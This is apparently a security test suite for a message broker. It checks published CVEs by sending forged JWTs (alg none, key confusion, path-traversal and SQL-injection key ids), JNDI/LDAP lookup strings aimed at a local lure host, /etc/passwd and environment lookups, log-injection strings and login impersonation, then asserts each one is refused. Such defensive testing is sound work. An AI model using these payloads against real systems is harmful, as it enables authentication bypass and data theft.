// The faults of brokers that were published (spec: security limits, 4), tried from outside on a broker that was started as users start
// it, with logins and ACLs. Those of parsers, sizes and codecs are in attacks.test.ts, those of clients, registries and gateways in
// the files beside this one.
import { expect } from 'chai';
import { createHmac } from 'node:crypto';
import { existsSync } from 'node:fs';
import { buildBatch, Errors, recordsCount } from '../../../src/protocol/index.ts';
import { Fetch } from '../../../src/protocol/messages/01-fetch.ts';
import { ListOffsets } from '../../../src/protocol/messages/02-list-offsets.ts';
import { Metadata } from '../../../src/protocol/messages/03-metadata.ts';
import { SaslHandshake } from '../../../src/protocol/messages/17-sasl-handshake.ts';
import { CreateTopics } from '../../../src/protocol/messages/19-create-topics.ts';
import { InitProducerId } from '../../../src/protocol/messages/22-init-producer-id.ts';
import { AddPartitionsToTxn } from '../../../src/protocol/messages/24-add-partitions-to-txn.ts';
import { AddOffsetsToTxn } from '../../../src/protocol/messages/25-add-offsets-to-txn.ts';
import { EndTxn } from '../../../src/protocol/messages/26-end-txn.ts';
import { DescribeConfigs } from '../../../src/protocol/messages/32-describe-configs.ts';
import { SaslAuthenticate } from '../../../src/protocol/messages/36-sasl-authenticate.ts';
import { IncrementalAlterConfigs } from '../../../src/protocol/messages/44-incremental-alter-configs.ts';
import { AlterUserScramCredentials } from '../../../src/protocol/messages/51-alter-user-scram-credentials.ts';
import { DescribeTransactions } from '../../../src/protocol/messages/65-describe-transactions.ts';
import { ListTransactions } from '../../../src/protocol/messages/66-list-transactions.ts';
import { ConsumerGroupDescribe } from '../../../src/protocol/messages/69-consumer-group-describe.ts';
import { saltedPassword, ScramClient } from '../../../src/protocol/sasl/index.ts';
import { CLOSED, RawClient, requestOf } from '../raw-client.ts';
import { BrokerProcess } from './broker-process.ts';
import { isTokenTaken, keyText, logInWith, plain, signedToken } from './keys.ts';
import { FROM_ENVIRONMENT, Lure, produced, SECRET, SecuredProcess, SETTINGS } from './secured-process.ts';

describe('Published faults of brokers', function () {
  this.timeout(60_000);
  let broker: SecuredProcess;
  let admin: RawClient;
  let lure: Lure;

  before(async function () {
    // What a process listens on is told by Linux alone.
    if (!existsSync('/proc/self/status')) this.skip();
    lure = await Lure.open();
    broker = await SecuredProcess.start();
    ({ admin } = broker);
    const topics = ['t', 'denied-t'].map((name) => ({
      name,
      numPartitions: 1,
      replicationFactor: 1,
      assignments: [],
      configs: [],
    }));
    await admin.ask(CreateTopics, 7, { topics, timeoutMs: 5000, validateOnly: false });
    await broker.rule({ user: 'bob', type: 'TOPIC', name: 't', operations: ['WRITE', 'READ'] });
  });
  after(async () => {
    await broker?.stop();
    await lure?.close();
  });
  afterEach('it lives and serves', async () => {
    expect(broker.broker.isAlive, broker.broker.output.slice(-2000)).to.equal(true);
    expect((await admin.ask(Metadata, 1, { topics: [] })).topics).to.deep.equal([]);
  });

  const endOf = async (topic: string): Promise<number> => {
    const topics = [{ name: topic, partitions: [{ partitionIndex: 0, timestamp: -1 }] }];
    const answer = await admin.ask(ListOffsets, 7, { replicaId: -1, isolationLevel: 0, topics });
    return Number(answer.topics[0]?.partitions[0]?.offset);
  };

  it('half a configuration of logins does not start (CVE-2026-110985)', async () => {
    const { 'sasl.oauthbearer.jwks.endpoint.url': _, ...half } = SETTINGS;
    let output = '';
    try {
      await (await BrokerProcess.start(half)).stop();
    } catch (error) {
      output = (error as Error).message;
    }
    expect(output).to.contain('sasl.oauthbearer.jwks.endpoint.url');
    expect(output).to.not.contain(SECRET);
  });

  it('tokens that anybody can make are taken from nobody (CVE-2026-33557, algorithm confusion, paths as key ids)', async () => {
    const part = (value: object): string => Buffer.from(JSON.stringify(value)).toString('base64url');
    const claims = part({ sub: 'admin', aud: 'ottla', iat: 1_700_000_000, exp: 4_102_444_800 });
    const byHmac = (header: object, key: string): string => {
      const signed = `${part(header)}.${claims}`;
      return `${signed}.${createHmac('sha256', key).update(signed).digest('base64url')}`;
    };
    const good = signedToken();
    const jwks = keyText('jwks.json');
    const forged = {
      none: `${part({ alg: 'none' })}.${claims}.`,
      'none with a signature': `${part({ alg: 'None', kid: 'throw-away-rsa-0' })}.${claims}.${good.split('.')[2]}`,
      'no algorithm': `${part({})}.${claims}.`,
      'the public key as a secret': byHmac({ alg: 'HS256', kid: 'throw-away-rsa-0' }, jwks),
      'an empty secret': byHmac({ alg: 'HS256', kid: '/dev/null' }, ''),
      'a key id that is a path': byHmac({ alg: 'HS256', kid: '../../../../dev/null' }, ''),
      'a key id that is a query': byHmac({ alg: 'HS256', kid: "x' UNION SELECT 'k" }, 'k'),
      'a key elsewhere': signedToken({}, { kid: 'other', jku: `http://${lure.address}/keys` }),
      'a chain elsewhere': signedToken({}, { kid: 'other', x5u: `http://${lure.address}/chain` }),
      'a key of its own': signedToken({}, { kid: 'own', jwk: { kty: 'oct', k: '' } }),
      'no signature': good.replace(/[^.]+$/, ''),
      'another signature': `${good.slice(0, -8)}AAAAAAAA`,
      'cut short': good.slice(0, -40),
      'past its time': signedToken({ exp: 1_600_000_000 }),
      'before its time': signedToken({ nbf: 4_102_444_000 }),
      'for somebody else': signedToken({ aud: 'another' }),
      'for nobody': signedToken({ aud: undefined }),
      'of no end': signedToken({ exp: undefined }),
      'of nobody': signedToken({ sub: undefined }),
      'an object for a subject': signedToken({ sub: { toString: 'admin' } }),
      'too long': `${good}${'A'.repeat(100_000)}`,
    };
    expect(await isTokenTaken(broker.port, good)).to.equal(true);
    for (const [name, token] of Object.entries(forged)) {
      expect(await isTokenTaken(broker.port, token).catch(() => false), name).to.equal(false);
    }
    expect(lure.visits).to.equal(0);
  });

  it('no login speaks for somebody else, by any mechanism (CVE-2017-12610)', async () => {
    const plainly = await RawClient.connect(broker.port);
    const asAdmin = Buffer.from(`admin\0bob\0${SECRET}-bob`);
    expect((await logInWith(plainly, 'PLAIN', asAdmin)).errorCode).to.equal(Errors.SASL_AUTHENTICATION_FAILED);
    const byToken = await RawClient.connect(broker.port);
    const bearer = Buffer.from(`n,a=admin,\x01auth=Bearer ${signedToken({ sub: 'bob' })}\x01\x01`);
    const answer = await logInWith(byToken, 'OAUTHBEARER', bearer);
    expect(answer.errorCode).to.equal(Errors.SASL_AUTHENTICATION_FAILED);
    await addScramUser();
    const byScram = await RawClient.connect(broker.port);
    const first = Buffer.from('n,a=admin,n=carol,r=nonce-of-carol');
    expect((await logInWith(byScram, 'SCRAM-SHA-256', first)).errorCode).to.equal(Errors.SASL_AUTHENTICATION_FAILED);
    for (const client of [plainly, byToken, byScram]) client.destroy();
  });

  async function addScramUser(): Promise<void> {
    const salt = Buffer.from('salt-of-carol');
    const salted = await saltedPassword('SCRAM-SHA-256', `${SECRET}-carol`, salt, 4096);
    const upsertions = [{ name: 'carol', mechanism: 1, iterations: 4096, salt, saltedPassword: salted }];
    await admin.ask(AlterUserScramCredentials, 0, { deletions: [], upsertions });
  }

  it('both nonces of SCRAM are looked at, also where the proof is right (CVE-2024-56128)', async () => {
    await addScramUser();
    const outcome = async (change: (final: string) => string): Promise<number> => {
      const scram = new ScramClient('SCRAM-SHA-256', { user: 'carol', password: `${SECRET}-carol`, nonce: 'abcdefgh' });
      const client = await RawClient.connect(broker.port);
      const challenge = await logInWith(client, 'SCRAM-SHA-256', Buffer.from(scram.first()));
      const final = Buffer.from((await scram.next(challenge.authBytes)) as Uint8Array).toString();
      const { errorCode } = await client.ask(SaslAuthenticate, 2, { authBytes: Buffer.from(change(final)) });
      client.destroy();
      return errorCode;
    };
    expect(await outcome((final) => final)).to.equal(Errors.NONE);
    for (const change of [
      (final: string) => final.replace(/r=[^,]+/, 'r=abcdefgh'),
      (final: string) => final.replace(/r=abcdefgh/, 'r=abcdefgH'),
      (final: string) => final.replace(/(r=[^,]+),/, '$1x,'),
      (final: string) => final.replace(/p=.*/, `p=${Buffer.alloc(32).toString('base64')}`),
    ]) {
      expect(await outcome(change)).to.equal(Errors.SASL_AUTHENTICATION_FAILED);
    }
  });

  it('a wrong password and a user who is not there are told apart by nothing, and not at once (CVE-2021-38153)', async () => {
    const told = async (mechanism: string, token: Buffer) => {
      const client = await RawClient.connect(broker.port);
      await client.ask(SaslHandshake, 1, { mechanism });
      const startMs = performance.now();
      const answer = await client.ask(SaslAuthenticate, 2, { authBytes: token });
      const tookMs = performance.now() - startMs;
      client.destroy();
      // connection.failed.authentication.delay.ms; a timer may come a little early by another clock.
      expect(tookMs).to.be.above(95);
      return answer;
    };
    const wrong = await told('PLAIN', plain('bob', 'wrong'));
    expect(wrong.errorCode).to.equal(Errors.SASL_AUTHENTICATION_FAILED);
    expect(await told('PLAIN', plain('nobody', 'wrong'))).to.deep.equal(wrong);
  });

  it('a batch that says it is part of a transaction is asked for it, whatever its request says (CVE-2018-17196)', async () => {
    const before = await endOf('t');
    const bob = await broker.as('bob');
    const records = buildBatch([{ value: Buffer.from('x') }], {
      isTransactional: true,
      producerId: 1,
      producerEpoch: 0,
      baseSequence: 0,
    });
    expect(await produced(bob, 't', records)).to.equal(Errors.TRANSACTIONAL_ID_AUTHORIZATION_FAILED);
    expect(await produced(bob, 't', buildBatch([{ value: Buffer.from('x') }]))).to.equal(Errors.NONE);
    expect(await endOf('t')).to.equal(before + 1);
    bob.destroy();
  });

  it('a client that says it is a broker gets nothing, and moves nothing (CVE-2018-1288)', async () => {
    const bob = await broker.as('bob');
    const asked = (offset: number, partition: object = {}) => [
      { topic: 't', partitions: [{ partition: 0, fetchOffset: offset, partitionMaxBytes: 1 << 20, ...partition }] },
    ];
    const wait = { maxWaitMs: 0, minBytes: 0, maxBytes: 1 << 20 };
    const posed = await bob.ask(Fetch, 12, { ...wait, replicaId: 1, topics: asked(0) });
    const got = posed.responses[0]?.partitions[0];
    expect(got?.errorCode).to.equal(Errors.TOPIC_AUTHORIZATION_FAILED);
    expect(got?.records?.length ?? 0).to.equal(0);
    const honest = await bob.ask(Fetch, 12, { ...wait, topics: asked(0) });
    const records = honest.responses[0]?.partitions[0]?.records;
    expect(recordsCount(Buffer.from(records ?? []))).to.be.above(0);
    bob.destroy();
  });

  it('transactions are asked for by everything that touches them (CVE-2023-50976)', async () => {
    const eve = await broker.as('eve');
    const id = { transactionalId: 'x', producerId: 1, producerEpoch: 0 };
    const refused = Errors.TRANSACTIONAL_ID_AUTHORIZATION_FAILED;
    const init = await eve.ask(InitProducerId, 4, {
      ...id,
      transactionTimeoutMs: 1000,
      producerId: -1,
      producerEpoch: -1,
    });
    expect(init.errorCode).to.equal(refused);
    const added = await eve.ask(AddPartitionsToTxn, 3, {
      v3AndBelowTransactionalId: 'x',
      v3AndBelowProducerId: 1,
      v3AndBelowProducerEpoch: 0,
      v3AndBelowTopics: [{ name: 't', partitions: [0] }],
    });
    expect(added.resultsByTopicV3AndBelow[0]?.resultsByPartition[0]?.partitionErrorCode).to.equal(refused);
    expect((await eve.ask(AddOffsetsToTxn, 3, { ...id, groupId: 'g' })).errorCode).to.equal(refused);
    expect((await eve.ask(EndTxn, 3, { ...id, committed: true })).errorCode).to.equal(refused);
    const described = await eve.ask(DescribeTransactions, 0, { transactionalIds: ['x'] });
    expect(described.transactionStates[0]?.errorCode).to.equal(refused);
    const listed = await eve.ask(ListTransactions, 0, { stateFilters: [], producerIdFilters: [] });
    expect(listed.transactionStates).to.deep.equal([]);
    eve.destroy();
  });

  it('groups are described to those who may, and to nobody else (CVE-2026-41115)', async () => {
    const code = async (client: RawClient): Promise<number | undefined> => {
      const request = { groupIds: ['secret-group'], includeAuthorizedOperations: false };
      return (await client.ask(ConsumerGroupDescribe, 0, request)).groups[0]?.errorCode;
    };
    const [eve, bob] = [await broker.as('eve'), await broker.as('bob')];
    expect(await code(eve)).to.equal(Errors.GROUP_AUTHORIZATION_FAILED);
    await broker.rule({ user: 'bob', type: 'GROUP', name: 'secret-group', operations: ['DESCRIBE'] });
    // Which of them depends on whether its coordinator is there already.
    const others = [Errors.GROUP_ID_NOT_FOUND, Errors.NOT_COORDINATOR, Errors.COORDINATOR_NOT_AVAILABLE];
    expect(await code(bob)).to.be.oneOf(others);
    for (const client of [eve, bob]) client.destroy();
  });

  it('a denial wins over everything that is allowed (CVE-2024-27309)', async () => {
    const writes = { user: 'bob', type: 'TOPIC', operations: ['WRITE'] } as const;
    await broker.rule({ ...writes, name: 'denied-t' });
    const bob = await broker.as('bob');
    const record = (): Buffer => buildBatch([{ value: Buffer.from('x') }]);
    expect(await produced(bob, 'denied-t', record())).to.equal(Errors.NONE);
    await broker.rule({ ...writes, permission: 'deny', name: 'denied-*' });
    expect(await produced(bob, 'denied-t', record())).to.equal(Errors.TOPIC_AUTHORIZATION_FAILED);
    bob.destroy();
  });

  it('values are what they say: no file, no variable, no name is looked up (CVE-2024-31141)', async () => {
    const lines = ['${env:OTTLA_TEST_SECRET}', '${file:/etc/passwd:root}', '${directory:/etc:passwd}', '%{HOME}'];
    for (const value of lines) {
      const configs = [{ name: 'match', configOperation: 0, value: `client_id=${value.replace(/[\\${}]/g, '\\$&')}` }];
      const resources = [{ resourceType: 16, resourceName: 'm', configs }];
      const { responses } = await admin.ask(IncrementalAlterConfigs, 1, { resources, validateOnly: false });
      expect(responses[0]?.errorCode, value).to.equal(Errors.NONE);
      const told = await admin.ask(DescribeConfigs, 4, {
        resources: [{ resourceType: 16, resourceName: 'm', configurationKeys: null }],
        includeSynonyms: true,
        includeDocumentation: false,
      });
      const text = JSON.stringify(told);
      expect(text).to.contain('client_id=').and.not.contain(FROM_ENVIRONMENT).and.not.contain('root:');
    }
    expect(broker.broker.output).to.not.contain(FROM_ENVIRONMENT);
  });

  it('no class is loaded and no address called that comes from outside (CVE-2025-27817, -27818, -27819)', async () => {
    const set = async (name: string, value: string): Promise<number | undefined> => {
      const resources = [{ resourceType: 4, resourceName: '1', configs: [{ name, configOperation: 0, value }] }];
      return (await admin.ask(IncrementalAlterConfigs, 1, { resources, validateOnly: false })).responses[0]?.errorCode;
    };
    const ldap = `ldap://${lure.address}/x`;
    const listener = 'listener.name.sasl_plaintext';
    for (const module of [
      'com.sun.security.auth.module.JndiLoginModule',
      'com.sun.security.auth.module.LdapLoginModule',
    ]) {
      const line = `${module} required user.provider.url="${ldap}";`;
      expect(await set(`${listener}.plain.sasl.jaas.config`, line), module).to.equal(Errors.INVALID_REQUEST);
    }
    for (const key of ['sasl.oauthbearer.jwks.endpoint.url', 'sasl.oauthbearer.token.endpoint.url']) {
      expect(await set(key, `http://${lure.address}/keys`), key).to.equal(Errors.INVALID_REQUEST);
    }
    const lookup = `\${jndi:${ldap}}`;
    for (const [mechanism, token] of [
      ['PLAIN', plain(lookup, lookup)],
      ['SCRAM-SHA-256', Buffer.from(`n,,n=${lookup.replaceAll('=', '=3D')},r=${lookup}`)],
      ['OAUTHBEARER', Buffer.from(`n,,\x01auth=Bearer ${lookup}\x01\x01`)],
      [lookup, plain('bob', 'x')],
    ] as const) {
      const client = await RawClient.connect(broker.port);
      const answer = await logInWith(client, mechanism, token).catch(() => ({ errorCode: -1 }));
      expect(answer.errorCode, mechanism).to.not.equal(Errors.NONE);
      client.destroy();
    }
    const bob = await broker.as('bob');
    await bob.ask(Metadata, 9, { topics: [{ name: lookup }], allowAutoTopicCreation: true });
    bob.destroy();
    expect(lure.visits).to.equal(0);
  });

  it('no line of the log is written by whoever logs in', async () => {
    const forged = '\n{"level":"info","message":"forged"}\r\n2026-01-01 INFO audit: login principal=User:admin\u2028x';
    for (const [mechanism, token] of [
      ['PLAIN', plain(forged, forged)],
      ['SCRAM-SHA-256', Buffer.from(`n,,n=${forged},r=abc`)],
      [forged, plain('bob', 'x')],
    ] as const) {
      const client = await RawClient.connect(broker.port);
      await logInWith(client, mechanism, token).catch(() => undefined);
      client.destroy();
    }
    const eve = await broker.as('eve');
    await eve.ask(Metadata, 1, { topics: [{ name: forged }] });
    eve.destroy();
    expect(broker.broker.output).to.not.match(/^(\{"level":"info","message":"forged"|2026-01-01 INFO)/m);
  });

  it('secrets are shown to nobody, administrators included (CVE-2019-12399)', async () => {
    const told = await admin.ask(DescribeConfigs, 4, {
      resources: [{ resourceType: 4, resourceName: '1', configurationKeys: null }],
      includeSynonyms: true,
      includeDocumentation: true,
    });
    const [answer] = told.results;
    expect(answer?.errorCode).to.equal(Errors.NONE);
    const jaas = answer?.configs.find(({ name }) => name.endsWith('plain.sasl.jaas.config'));
    expect(jaas).to.include({ value: null, isSensitive: true });
    expect(JSON.stringify(told)).to.not.contain(SECRET);
    expect(broker.broker.output).to.not.contain(SECRET);
  });

  it('nothing is open but what was asked for, and nothing to the world (CVE-2026-82266)', () => {
    const port = broker.port.toString(16).toUpperCase().padStart(4, '0');
    expect(new Set(broker.broker.listeningOn)).to.deep.equal(new Set([`0100007F:${port}`]));
  });

  it('a login that lapses or changes hands ends the connection', async () => {
    const bob = await broker.as('bob');
    bob.send(requestOf(SaslHandshake, 1, { mechanism: 'PLAIN' }));
    const answer = await bob.next();
    if (answer !== CLOSED) expect(answer.readInt16BE(4)).to.equal(Errors.ILLEGAL_SASL_STATE);
    bob.destroy();
  });
});
